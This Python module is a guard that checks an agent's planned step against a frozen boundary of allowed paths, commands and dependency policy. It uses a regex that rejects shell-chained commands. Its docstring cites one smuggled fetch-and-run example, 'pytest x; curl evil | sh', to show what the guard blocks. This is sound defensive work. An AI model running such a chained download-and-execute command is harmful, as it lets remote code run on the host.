"""The pre-dispatch guard: a StepPack must stay inside the frozen boundary.

Negotiation freezes what the whole piece of work may touch (`BoundarySnapshot`). Before a step
is dispatched, `guard_violations` compares the pack with it and lists every place the pack steps
outside, by the pack's JSON path: a path pattern that opens files outside the boundary or
inside its forbidden part, a verification command the boundary does not allow, a dependency
policy wider than the boundary's. `enforce` raises `GuardRefused` with that list.

Commands: an allowed command is an exact string or an ``fnmatch`` pattern (``python -m pytest
*``). A command containing shell control syntax (``;``, ``&&``, ``|``, ``$(``, backticks,
redirections, newlines) must match an allowed entry exactly, so ``pytest *`` cannot admit
``pytest x; curl evil | sh``.
"""

from __future__ import annotations

import enum
import re
from collections.abc import Iterator, Sequence
from fnmatch import fnmatchcase

import msgspec
from msgspec import UNSET

from protocol import BoundarySnapshot, DependencyPolicy, StepPack

from .boundary import Scope, escapes
from .errors import GuardRefused
from .snapshot import verify_boundary

_SHELL_SYNTAX = re.compile(r"[;&|`<>\n\r]|\$\(")
_POLICY_FLAGS = (
    "allow_new_dependencies",
    "allow_lockfile_changes",
    "allow_dependency_manifest_changes",
    "allow_ci_changes",
    "allow_ci_workflow_changes_in_scope",
)


class ViolationKind(enum.StrEnum):
    PATH_OUTSIDE_BOUNDARY = "path_outside_boundary"
    PATH_FORBIDDEN_BY_BOUNDARY = "path_forbidden_by_boundary"
    COMMAND_NOT_ALLOWED = "command_not_allowed"
    DEPENDENCY_POLICY_WIDER = "dependency_policy_wider"


class Violation(msgspec.Struct, frozen=True):
    """One place the pack steps outside: `where` is its JSON path, `value` what it says there."""

    where: str
    kind: ViolationKind
    value: str
    detail: str

    def __str__(self) -> str:
        return f"{self.where} ({self.value!r}): {self.detail} [{self.kind.value}]"


def guard_violations(pack: StepPack, boundary: BoundarySnapshot) -> list[Violation]:
    """Every place `pack` steps outside `boundary` (empty when it stays inside).

    Raises `SnapshotTampered` if the boundary no longer matches its frozen hash.
    """
    verify_boundary(boundary)
    view = pack.view
    return check_parts(
        allowed=view.allowed_paths,
        forbidden=view.forbidden_paths,
        commands=view.commands_to_run,
        policy=view.dependency_policy,
        boundary=boundary,
    )


def enforce(pack: StepPack, boundary: BoundarySnapshot) -> StepPack:
    """Return `pack` if it stays inside `boundary`, else raise `GuardRefused`."""
    violations = guard_violations(pack, boundary)
    if violations:
        raise GuardRefused(pack.task_id, violations, boundary.content_sha256)
    return pack


def check_parts(
    *,
    allowed: Sequence[str],
    forbidden: Sequence[str],
    commands: Sequence[str],
    policy: DependencyPolicy | None,
    boundary: BoundarySnapshot,
    prefix: str = "$",
) -> list[Violation]:
    """The guard's rules on loose parts (negotiation checks each planned task with them)."""
    found = list(_path_violations(allowed, forbidden, boundary, prefix))
    found += _command_violations(commands, boundary.allowed_commands, prefix)
    if policy is not None:
        found += _policy_violations(policy, boundary.dependency_policy, prefix)
    return found


def _path_violations(
    allowed: Sequence[str], forbidden: Sequence[str], boundary: BoundarySnapshot, prefix: str
) -> Iterator[Violation]:
    inner = Scope(tuple(allowed), tuple(forbidden))
    outer = Scope(tuple(boundary.allowed_paths), tuple(boundary.forbidden_paths))
    for escape in escapes(inner, outer):
        where = f"{prefix}.allowed_paths[{escape.inner_index}]"
        if escape.forbidden_by is None:
            yield Violation(
                where,
                ViolationKind.PATH_OUTSIDE_BOUNDARY,
                escape.inner_pattern,
                f"allows {escape.path!r}, which no boundary allowed path covers",
            )
        else:
            yield Violation(
                where,
                ViolationKind.PATH_FORBIDDEN_BY_BOUNDARY,
                escape.inner_pattern,
                f"allows {escape.path!r}, which the boundary forbids ({escape.forbidden_by!r})",
            )


def command_allowed(command: str, allowed: Sequence[str]) -> bool:
    if command in allowed:
        return True
    if _SHELL_SYNTAX.search(command):
        return False
    return any(fnmatchcase(command, pattern) for pattern in allowed if _is_pattern(pattern))


def _is_pattern(entry: str) -> bool:
    return any(ch in entry for ch in "*?[")


def _command_violations(
    commands: Sequence[str], allowed: Sequence[str], prefix: str
) -> Iterator[Violation]:
    for i, command in enumerate(commands):
        if command_allowed(command, allowed):
            continue
        if not allowed:
            detail = "the boundary allows no commands"
        elif _SHELL_SYNTAX.search(command):
            detail = "contains shell control syntax and is not listed exactly in allowed_commands"
        else:
            detail = "matches no allowed_commands entry"
        yield Violation(
            f"{prefix}.commands_to_run[{i}]", ViolationKind.COMMAND_NOT_ALLOWED, command, detail
        )


def _policy_violations(
    policy: DependencyPolicy, frozen: DependencyPolicy, prefix: str
) -> Iterator[Violation]:
    if policy.mode == "allow-new-dependencies" and frozen.mode != "allow-new-dependencies":
        yield Violation(
            f"{prefix}.dependency_policy.mode",
            ViolationKind.DEPENDENCY_POLICY_WIDER,
            policy.mode,
            f"the boundary's mode is {frozen.mode}",
        )
    for flag in _POLICY_FLAGS:
        if _on(getattr(policy, flag)) and not _on(getattr(frozen, flag)):
            yield Violation(
                f"{prefix}.dependency_policy.{flag}",
                ViolationKind.DEPENDENCY_POLICY_WIDER,
                "true",
                "the boundary does not allow it",
            )


def _on(value: object) -> bool:
    return value is not UNSET and bool(value)
